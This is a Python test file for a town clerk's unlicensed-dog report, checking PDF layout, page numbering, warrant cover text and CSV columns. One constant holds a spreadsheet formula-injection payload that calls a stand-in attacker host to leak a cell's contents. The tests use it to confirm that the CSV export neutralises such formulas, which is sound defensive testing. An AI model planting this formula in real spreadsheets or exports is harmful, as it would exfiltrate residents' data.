"""The unlicensed-dog list's writers from literal rows: the warrant's cover page on
portrait Letter, then landscape Letter pages numbered "Page N of M", each street with its
count, each dog with its evidence, notices and amount due, the total, who was left out,
and text from residents never run as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import replace
from decimal import Decimal

from clerkdesk.reports.documents import OfficeHeading
from clerkdesk.reports.unlicensed_csv import HEADER, render_unlicensed_csv
from clerkdesk.reports.unlicensed_data import (
    CensusHousehold,
    LeftOut,
    SignatureBlock,
    UnlicensedList,
    UnlicensedRow,
)
from clerkdesk.reports.unlicensed_pdf import render_unlicensed_pdf
from pdf_support import page_sizes, page_texts

HEADING = OfficeHeading("Town of Westborough", "Office of the Town Clerk", "Bylaw 19")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
STREETS = ("Acorn Rd", "Beech St", "Cedar Ave", "Elm St", "Maple St", "Oak St")


def row(n: int, street: str, owner: str | None = None) -> UnlicensedRow:
    return UnlicensedRow(
        street=street,
        house_number=str(n),
        owner_name=owner or f"Owner{n:03d}, Pat",
        owner_id=n,
        address_lines=(f"{n} {street}", "Westborough, MA 01581"),
        phone="508-555-0100",
        dog_id=n,
        dog_name=f"Dog{n:03d}",
        breed="Beagle",
        last_license_label=f"{n} (2025–26)",
        last_tag=f"W-{n}",
        residence=f"{n} {street}",
        sex_label="F/S",
        color="Tricolor",
        last_license_year="2025–26",
        last_license_number=n,
        age="7 years",
        rabies="Vaccinated 04/20/2024 by Dr. Anne Kowalski; expires 04/20/2027",
        notices=(("Renewal notice", dt.date(2026, 2, 2)),),
        amount_due=Decimal("14.00"),
        late_fees=Decimal("4.00"),
    )


def listing(
    rows: tuple[UnlicensedRow, ...], made_on: dt.date = dt.date(2026, 6, 1)
) -> UnlicensedList:
    return UnlicensedList(
        year_label="2026–27",
        due_date=dt.date(2026, 4, 1),
        rows=rows,
        heading=HEADING,
        last_year_label="2025–26",
        made_on=made_on,
        year=2026,
        left_out=(LeftOut("licensed", 300), LeftOut("too_young", 4)),
        signatures=SignatureBlock(clerk_name="Dana Reyes"),
    )


def many() -> UnlicensedList:
    """120 dogs, 20 on each of six streets."""
    return listing(tuple(row(n, STREETS[n // 20]) for n in range(120)))


def test_pages_are_landscape_letter_and_numbered_of_the_whole() -> None:
    data = render_unlicensed_pdf(many(), invariant=True)
    texts = page_texts(data)
    assert len(texts) > 3
    # the warrant's cover on portrait Letter, the list on landscape
    assert page_sizes(data)[0] == (612.0, 792.0)
    assert set(page_sizes(data)[1:]) == {(792.0, 612.0)}
    for number, text in enumerate(texts, start=1):
        assert f"Page {number} of {len(texts)}" in text
        assert "Town of Westborough — Dogs not licensed for 2026–27 (MGL c.140 §151A)" in text
        if number == 1:
            continue
        # the column names are repeated at the top of every page
        assert "mailing address" in text and "Last license" in text and "Amount due" in text
        # and a page the list runs onto names the street it goes on with
        if number > 2:
            first_dog = re.search(r"Dog\d{3}", text)
            assert first_dog is not None
            assert any(f"{street}\n" in text[: first_dog.start()] for street in STREETS)


def test_every_dog_once_in_order_with_street_counts_and_the_total() -> None:
    text = "\n".join(page_texts(render_unlicensed_pdf(many(), invariant=True)))
    assert "Dogs Not Licensed — MGL c.140 §151A" in text
    assert "No license in force for 2026–27; licenses due by 04/01/2026" in text
    assert "As of 06/01/2026" in text
    names = [f"Dog{n:03d}" for n in range(120)]
    assert all(text.count(name) == 1 for name in names)
    positions = [text.index(name) for name in names]
    assert positions == sorted(positions)
    # each street's name and count, in order (repeated on a page it runs onto)
    firsts = [text.index(f"{street}\n") for street in STREETS]
    assert firsts == sorted(firsts)
    assert len(re.findall(r"(?<!\d)20 dogs", text)) >= len(STREETS)
    assert "Total: 120 dogs of 120 owners on 6 streets; 0 never licensed; $1,680.00 due" in text
    assert "before the due date" not in text


def test_each_dog_carries_its_evidence_notices_and_amount() -> None:
    never = replace(
        row(7, "Elm St"), never_licensed=True, last_license_label="never licensed",
        last_license_number=None, last_license_year="", last_tag=None, rabies="", notices=(),
        census="2026 census: 2 dogs (census.xlsx, row 4)", late_fees=Decimal("0.00"),
        amount_due=Decimal("10.00"),
    )  # fmt: skip
    data = listing((row(3, "Elm St"), never))
    text = " ".join(" ".join(page_texts(render_unlicensed_pdf(data))[1:]).split())
    assert "License 3 2025–26 tag W-3" in text
    assert "Vaccinated 04/20/2024 by Dr. Anne Kowalski; expires 04/20/2027" in text
    assert "Renewal notice 02/02/2026" in text
    assert "$14.00 incl. $4.00 late fees" in text
    assert "Never licensed" in text and "None on file" in text and "None $10.00" in text
    assert "2026 census: 2 dogs (census.xlsx, row 4)" in text
    # who was left out, and why
    assert "Licensed for the year 300" in text and "Under the licensing age 4" in text
    assert "Left out in all 304" in text


def test_the_cover_is_the_warrant_to_the_officer_with_the_clerks_signature() -> None:
    cover = " ".join(page_texts(render_unlicensed_pdf(many()))[0].split())
    assert "Warrant for Unlicensed Dogs" in cover
    assert "To the Animal Control Officer of Town of Westborough: Greeting." in cover
    assert "seek out, catch and confine" in cover
    for fact in ("2026–27 (licenses due by 04/01/2026)", "06/01/2026", "120 dogs of 120 owners"):
        assert fact in cover
    assert cover.count("Select Board") == 3
    assert "Dana Reyes, Town Clerk" in cover and "Animal Control Officer Date" in cover
    city = replace(many(), signatures=SignatureBlock("Mayor", 1, "", "City Clerk"))
    cover = " ".join(page_texts(render_unlicensed_pdf(city))[0].split())
    assert "Mayor" in cover and "Select Board" not in cover and "City Clerk" in cover


def test_before_the_due_date_it_says_so() -> None:
    early = listing((row(1, "Elm St"),), made_on=dt.date(2026, 3, 1))
    text = page_texts(render_unlicensed_pdf(early))[1]
    assert "Drawn up before the due date (04/01/2026): these dogs are not late yet." in text
    assert "1 dog" in text and "Total: 1 dog of 1 owner on 1 street;" in text


def test_an_empty_list_says_why() -> None:
    text = " ".join(page_texts(render_unlicensed_pdf(listing(())))[1].split())
    assert "No dog of licensing age on file was kept without a license for 2026–27" in text


def test_the_csv_holds_the_rows_and_never_a_formula() -> None:
    rows = (row(3, "Elm St", HOSTILE), row(12, "Elm St", "-Doe, Jane"))
    data = render_unlicensed_csv(listing(rows))
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(read[0]) == HEADER
    assert read[1][:4] == ["Elm St", "3", "'" + HOSTILE, "3 Elm St, Westborough, MA 01581"]
    assert read[2][2] == "'-Doe, Jane"
    assert read[1][-2:] == ["3", "3"]
    assert read[1][HEADER.index("last_tag")] == "W-3"


HOUSES = (
    CensusHousehold(
        "12 Elm Street", "Doe, Jane; Doe, John", 2, "Jane Doe", "address and family name",
        "2026 census, census-2026.xlsx, rows 14, 15",
    ),
    CensusHousehold(
        "3 Pine Road, 2", HOSTILE, 1, "", "no owner on file at this address",
        "2026 census, census-2026.xlsx, row 20",
    ),
)  # fmt: skip


def test_the_census_households_follow_the_dogs_with_their_source() -> None:
    data = replace(listing((row(3, "Elm St"),)), households=HOUSES)

    text = " ".join(" ".join(page_texts(render_unlicensed_pdf(data, invariant=True))).split())

    assert "Census of 2026: households that keep dogs with none licensed" in text
    assert "2 households told the 2026 census they keep dogs" in text
    assert "Jane Doe (address and family name)" in text
    assert "2026 census, census-2026.xlsx, rows 14, 15" in text
    assert "— (no owner on file at this address)" in text


def test_an_empty_list_still_shows_the_census_households() -> None:
    text = " ".join(page_texts(render_unlicensed_pdf(replace(listing(()), households=HOUSES))))
    assert "No dog of licensing age on file" in " ".join(text.split())
    assert "3 Pine Road, 2" in " ".join(text.split())


def test_the_csv_lists_the_census_households_after_the_dogs() -> None:
    data = render_unlicensed_csv(replace(listing((row(3, "Elm St"),)), households=HOUSES))
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(read) == 4
    elm, pine = (dict(zip(HEADER, line, strict=True)) for line in read[2:])
    assert (elm["street"], elm["house_number"], elm["owner"], elm["dog"]) == (
        "Elm Street",
        "12",
        "Doe, Jane; Doe, John",
        "",
    )
    assert (elm["census_dogs"], elm["census_source"], elm["dog_id"]) == (
        "2",
        "2026 census, census-2026.xlsx, rows 14, 15",
        "",
    )
    assert pine["owner"] == "'" + HOSTILE
    assert read[1][HEADER.index("census_dogs")] == ""


def test_the_csv_columns_carry_the_evidence_and_the_amount() -> None:
    never = replace(
        row(7, "Elm St"), never_licensed=True, last_license_label="never licensed",
        last_license_number=None, last_license_year="", last_tag=None, rabies="", notices=(),
        amount_due=None, late_fees=Decimal("0.00"), amount_note="No rabies certificate",
    )  # fmt: skip
    data = render_unlicensed_csv(listing((row(3, "Elm St"), never)))
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(read[0]) == HEADER
    assert HEADER[-4:] == ("census_dogs", "census_source", "owner_id", "dog_id")
    for column in ("never_licensed", "last_license_year", "last_license_number",
                   "rabies_certificate", "census_answer", "notices_sent", "amount_due",
                   "late_fees", "as_of"):  # fmt: skip
        assert column in HEADER
    held, unheld = (dict(zip(HEADER, line, strict=True)) for line in read[1:])
    assert (held["never_licensed"], held["last_license_year"], held["last_license_number"]) == (
        "no", "2025–26", "3",
    )  # fmt: skip
    assert (held["amount_due"], held["late_fees"], held["as_of"]) == ("14.00", "4.00", "06/01/2026")
    assert held["notices_sent"] == "Renewal notice 02/02/2026"
    assert held["rabies_certificate"].startswith("Vaccinated 04/20/2024")
    assert (unheld["never_licensed"], unheld["last_license"], unheld["rabies_certificate"]) == (
        "yes", "never licensed", "none on file",
    )  # fmt: skip
    assert (unheld["amount_due"], unheld["amount_note"]) == ("", "No rabies certificate")
